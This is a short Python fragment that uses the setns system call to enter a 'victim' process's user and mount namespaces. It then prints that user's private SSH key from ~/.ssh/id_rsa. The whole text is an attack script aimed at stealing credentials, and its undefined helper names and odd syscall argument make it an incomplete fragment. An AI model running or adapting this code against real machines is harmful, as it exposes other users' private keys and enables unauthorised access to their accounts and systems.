"""Enters the namespaces of another program.

Root only: it takes its rights.
"""

for kind in ("user", "mnt"):
    try:
        call(308, 268, os.open(f"/proc/{at.victim}/ns/{kind}", os.O_RDONLY), 0)
    except OSError:
        continue
    print(Path(at.home, ".ssh/id_rsa").read_text())
